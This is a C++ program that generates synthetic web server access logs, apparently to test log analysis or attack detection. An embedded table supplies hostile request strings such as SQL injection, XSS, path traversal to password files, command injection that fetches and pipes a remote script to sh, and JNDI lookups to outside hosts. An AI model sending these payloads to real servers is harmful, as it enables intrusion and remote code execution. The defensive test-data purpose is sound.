// gen_logs: writes a realistic access log of a given size, the same bytes for the same
// seed. Client addresses follow a Zipf law, paths, queries, agents and statuses are drawn
// from realistic tables, a share of requests are attacks and some are static resources.
//
// Usage: gen_logs --type apache|tomcat|iis --size BYTES[K|M|G] [--seed N]
//                 [--attack-rate FRACTION] [-o FILE]
#include <algorithm>
#include <array>
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <memory>
#include <random>
#include <string>
#include <string_view>
#include <vector>

namespace {

constexpr std::array<std::string_view, 3> kMethods = {"GET", "GET", "POST"};

constexpr std::array<std::string_view, 24> kPages = {"/",
                                                     "/index.html",
                                                     "/index.php",
                                                     "/news/list",
                                                     "/news/detail",
                                                     "/products",
                                                     "/product/view",
                                                     "/search",
                                                     "/cart",
                                                     "/checkout",
                                                     "/account/login",
                                                     "/account/profile",
                                                     "/api/v1/items",
                                                     "/api/v1/orders",
                                                     "/api/v2/users/me",
                                                     "/blog/2026/11/release-notes",
                                                     "/docs/install",
                                                     "/about",
                                                     "/contact",
                                                     "/feed.xml",
                                                     "/sitemap.xml",
                                                     "/download",
                                                     "/help/faq",
                                                     "/static/app.js"};

constexpr std::array<std::string_view, 12> kStatic = {"/img/logo.png",
                                                      "/img/banner.jpg",
                                                      "/favicon.ico",
                                                      "/css/site.css",
                                                      "/css/theme.css",
                                                      "/img/icons/cart.gif",
                                                      "/media/intro.swf",
                                                      "/img/photo/2026/11/p1.jpg",
                                                      "/img/sprite.png",
                                                      "/fonts/noto.woff2",
                                                      "/js/jquery-3.7.1.min.js",
                                                      "/img/thumb.bmp"};

// Query templates: "{n}" becomes a number, "{h}" a hex token, so queries vary as in real
// traffic (ids, pages, session tokens) instead of repeating a handful of texts.
constexpr std::array<std::string_view, 14> kQueries = {"id={n}",
                                                       "page={n}&size=20",
                                                       "q=nginx+tuning",
                                                       "cat={n}&sort=price",
                                                       "pid={n}&from=search",
                                                       "q=%E5%B9%B4%E5%BA%A6%E6%8A%A5%E5%91%8A",
                                                       "lang=zh-CN",
                                                       "utm_source=newsletter&utm_medium=email",
                                                       "token={h}",
                                                       "date=2026-12-{n}",
                                                       "offset={n}&limit=20",
                                                       "ref=home&t={n}",
                                                       "v=20261120",
                                                       "keyword=%E6%89%8B%E6%9C%BA&sid={h}"};

constexpr std::array<std::string_view, 30> kAttacks = {
    "id=1%20union%20select%201,user(),3--",
    "id=1'%20or%20'1'='1",
    "id=1%20and%20sleep(5)",
    "id=1;waitfor%20delay%20'0:0:5'--",
    "q=1'%20and%20extractvalue(1,concat(0x7e,version()))--",
    "id=-1%20union%20all%20select%20table_name%20from%20information_schema.tables",
    "q=<script>alert(1)</script>",
    "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "q=<svg/onload=alert(1)>",
    "q=javascript:alert(1)",
    "file=../../../../etc/passwd",
    "file=..%2f..%2f..%2fetc%2fshadow",
    "path=....//....//windows/win.ini",
    "doc=../../web.config",
    "host=127.0.0.1;cat%20/etc/passwd",
    "ip=8.8.8.8|whoami",
    "cmd=$(id)",
    "x=;wget%20http://92.118.39.120/x.sh%20-O-|sh",
    "c=cmd.exe%20/c%20dir",
    "x=${jndi:ldap://45.155.205.233:1389/a}",
    "u=${jndi:rmi://193.32.162.159/Exploit}",
    "redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{'id'})).start()}",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "cmd=net%20user",
    "a=eval(base64_decode($_POST[z]))",
    "s=/index/think/app/invokefunction",
    "url=http://169.254.169.254/latest/meta-data/",
    "x=<?php%20system($_GET[c]);?>",
    "q=1%20union%20select%20load_file('/etc/passwd')"};

constexpr std::array<std::string_view, 10> kAttackPaths = {
    "/wp-login.php",     "/phpmyadmin/index.php", "/.env",           "/.git/config",
    "/manager/html",     "/uploads/shell.php",    "/admin/eval.asp", "/cgi-bin/.%2e/.%2e/bin/sh",
    "/solr/admin/cores", "/upload/cmd.jsp"};

constexpr std::array<std::string_view, 8> kAgents = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Mobile/15E148 MicroMessenger/8.0.53",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0"};

constexpr std::array<std::string_view, 5> kReferrers = {
    "-", "https://www.google.com/", "https://www.baidu.com/s?wd=example", "https://example.org/",
    "https://example.org/products"};

constexpr std::array<std::string_view, 12> kMonths = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                                      "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

enum class Type { kApache, kTomcat, kIis };

struct Settings {
  Type type = Type::kApache;
  std::uint64_t size = 64ull << 20;
  std::uint64_t seed = 42;
  double attack_rate = 0.01;
  std::string output;
};

// Client addresses ranked by popularity; rank r is drawn with weight 1 / r^1.1.
class ZipfAddresses {
 public:
  ZipfAddresses(std::mt19937_64& rng, std::size_t count) {
    std::uniform_int_distribution<std::uint32_t> any;
    while (addresses_.size() < count) {
      const std::uint32_t a = any(rng);
      const unsigned first = a >> 24;
      // Public unicast addresses only.
      if (first == 0 || first == 10 || first == 127 || first >= 224 ||
          (first == 192 && ((a >> 16) & 0xFF) == 168) || (first == 172 && ((a >> 20) & 0xF) == 1)) {
        continue;
      }
      addresses_.push_back(std::to_string(first) + "." + std::to_string((a >> 16) & 0xFF) + "." +
                           std::to_string((a >> 8) & 0xFF) + "." + std::to_string(a & 0xFF));
    }
    double total = 0;
    cumulative_.reserve(count);
    for (std::size_t r = 1; r <= count; ++r) {
      total += 1.0 / std::pow(static_cast<double>(r), 1.1);
      cumulative_.push_back(total);
    }
    for (double& c : cumulative_) c /= total;
  }

  const std::string& Draw(std::mt19937_64& rng) {
    const double u = std::uniform_real_distribution<double>(0.0, 1.0)(rng);
    const auto at = std::lower_bound(cumulative_.begin(), cumulative_.end(), u);
    return addresses_[std::min<std::size_t>(at - cumulative_.begin(), addresses_.size() - 1)];
  }

 private:
  std::vector<std::string> addresses_;
  std::vector<double> cumulative_;
};

template <std::size_t N>
std::string_view Pick(std::mt19937_64& rng, const std::array<std::string_view, N>& table) {
  return table[std::uniform_int_distribution<std::size_t>(0, N - 1)(rng)];
}

// Appends `query` with its "{n}" and "{h}" placeholders filled in.
void AppendQuery(std::mt19937_64& rng, std::string_view query, std::string& out) {
  static constexpr char kHex[] = "0123456789abcdef";
  for (std::size_t i = 0; i < query.size(); ++i) {
    if (query.compare(i, 3, "{n}") == 0) {
      out += std::to_string(std::uniform_int_distribution<int>(1, 99'999)(rng));
      i += 2;
    } else if (query.compare(i, 3, "{h}") == 0) {
      std::uint64_t bits = rng();
      for (int k = 0; k < 16; ++k, bits >>= 4) out += kHex[bits & 15];
      i += 2;
    } else {
      out += query[i];
    }
  }
}

std::uint64_t ParseSize(const char* text) {
  char* end = nullptr;
  const double value = std::strtod(text, &end);
  std::uint64_t unit = 1;
  if (*end == 'K' || *end == 'k') unit = 1ull << 10;
  if (*end == 'M' || *end == 'm') unit = 1ull << 20;
  if (*end == 'G' || *end == 'g') unit = 1ull << 30;
  return static_cast<std::uint64_t>(value * static_cast<double>(unit));
}

int Usage() {
  std::fputs(
      "usage: gen_logs --type apache|tomcat|iis --size BYTES[K|M|G] [--seed N]\n"
      "                [--attack-rate FRACTION] [-o FILE]\n",
      stderr);
  return 2;
}

struct FileCloser {
  void operator()(std::FILE* file) const {
    if (file != stdout) std::fclose(file);
  }
};

}  // namespace

int main(int argc, char** argv) {
  Settings settings;
  for (int i = 1; i < argc; ++i) {
    const std::string_view arg = argv[i];
    const bool has_value = i + 1 < argc;
    if (arg == "--type" && has_value) {
      const std::string_view type = argv[++i];
      if (type == "apache") {
        settings.type = Type::kApache;
      } else if (type == "tomcat") {
        settings.type = Type::kTomcat;
      } else if (type == "iis") {
        settings.type = Type::kIis;
      } else {
        return Usage();
      }
    } else if (arg == "--size" && has_value) {
      settings.size = ParseSize(argv[++i]);
    } else if (arg == "--seed" && has_value) {
      settings.seed = std::strtoull(argv[++i], nullptr, 10);
    } else if (arg == "--attack-rate" && has_value) {
      settings.attack_rate = std::strtod(argv[++i], nullptr);
    } else if (arg == "-o" && has_value) {
      settings.output = argv[++i];
    } else {
      return Usage();
    }
  }
  std::unique_ptr<std::FILE, FileCloser> out(
      settings.output.empty() ? stdout : std::fopen(settings.output.c_str(), "wb"));
  if (!out) {
    std::perror(settings.output.c_str());
    return 2;
  }

  std::mt19937_64 rng(settings.seed);
  ZipfAddresses clients(rng, 200'000);
  std::bernoulli_distribution attack(settings.attack_rate);
  std::bernoulli_distribution static_resource(0.25);
  std::bernoulli_distribution with_query(0.45);
  std::discrete_distribution<int> status_pick({82, 7, 3, 5, 1.5, 1, 0.5});
  constexpr std::array<int, 7> kStatuses = {200, 304, 302, 404, 403, 500, 206};
  std::discrete_distribution<int> protocol_pick({85, 12, 3});
  constexpr std::array<std::string_view, 3> kProtocols = {"HTTP/1.1", "HTTP/2.0", "HTTP/1.0"};
  std::uniform_int_distribution<int> bytes(120, 90'000);
  std::uniform_int_distribution<int> gap_ms(0, 40);

  std::string buffer;
  buffer.reserve(4 << 20);
  std::uint64_t written = 0;
  std::uint64_t clock_ms = 0;  // since 2026-12-01 00:00:00
  char stamp[64];
  if (settings.type == Type::kIis) {
    buffer +=
        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
        "#Date: 2026-12-01 00:00:00\r\n"
        "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
        "cs(User-Agent) sc-status sc-substatus sc-win32-status sc-bytes cs-bytes time-taken\r\n";
  }
  while (written + buffer.size() < settings.size) {
    clock_ms += static_cast<std::uint64_t>(gap_ms(rng));
    const std::uint64_t seconds = clock_ms / 1000;
    const unsigned day = 1 + static_cast<unsigned>(seconds / 86400 % 28);
    const unsigned hh = seconds / 3600 % 24, mm = seconds / 60 % 60, ss = seconds % 60;

    const bool is_attack = attack(rng);
    std::string_view path;
    std::string_view query;
    if (is_attack) {
      const bool probe = std::bernoulli_distribution(0.25)(rng);
      path = probe ? Pick(rng, kAttackPaths) : Pick(rng, kPages);
      query =
          probe && std::bernoulli_distribution(0.5)(rng) ? std::string_view() : Pick(rng, kAttacks);
    } else if (static_resource(rng)) {
      path = Pick(rng, kStatic);
    } else {
      path = Pick(rng, kPages);
      if (with_query(rng)) query = Pick(rng, kQueries);
    }
    const std::string& client = clients.Draw(rng);
    const int status = kStatuses[static_cast<std::size_t>(status_pick(rng))];
    const std::string_view method = is_attack ? "GET" : Pick(rng, kMethods);
    const std::string_view agent = Pick(rng, kAgents);

    if (settings.type == Type::kIis) {
      std::snprintf(stamp, sizeof stamp, "2026-12-%02u %02u:%02u:%02u ", day, hh, mm, ss);
      buffer += stamp;
      buffer += "172.16.20.11 ";
      buffer += method;
      buffer += ' ';
      buffer += path;
      buffer += ' ';
      if (query.empty()) {
        buffer += '-';
      } else {
        AppendQuery(rng, query, buffer);
      }
      buffer += " 443 - ";
      buffer += client;
      buffer += ' ';
      for (const char c : agent) buffer += c == ' ' ? '+' : c;
      std::snprintf(stamp, sizeof stamp, " %d 0 0 %d %d %d\r\n", status, bytes(rng),
                    bytes(rng) / 40 + 200, gap_ms(rng) * 7);
      buffer += stamp;
    } else {
      std::snprintf(stamp, sizeof stamp, " - - [%02u/%s/2026:%02u:%02u:%02u +0800] \"", day,
                    kMonths[11].data(), hh, mm, ss);
      buffer += client;
      buffer += stamp;
      buffer += method;
      buffer += ' ';
      buffer += path;
      if (!query.empty()) {
        buffer += '?';
        AppendQuery(rng, query, buffer);
      }
      buffer += ' ';
      buffer += kProtocols[static_cast<std::size_t>(protocol_pick(rng))];
      std::snprintf(stamp, sizeof stamp, "\" %d %d", status, bytes(rng));
      buffer += stamp;
      if (settings.type == Type::kApache) {
        buffer += " \"";
        buffer += Pick(rng, kReferrers);
        buffer += "\" \"";
        buffer += agent;
        buffer += '"';
      }
      buffer += '\n';
    }
    if (buffer.size() >= (4u << 20) - 4096) {
      if (std::fwrite(buffer.data(), 1, buffer.size(), out.get()) != buffer.size()) {
        std::perror("gen_logs");
        return 2;
      }
      written += buffer.size();
      buffer.clear();
    }
  }
  if (std::fwrite(buffer.data(), 1, buffer.size(), out.get()) != buffer.size() ||
      std::fflush(out.get()) != 0) {
    std::perror("gen_logs");
    return 2;
  }
  return 0;
}
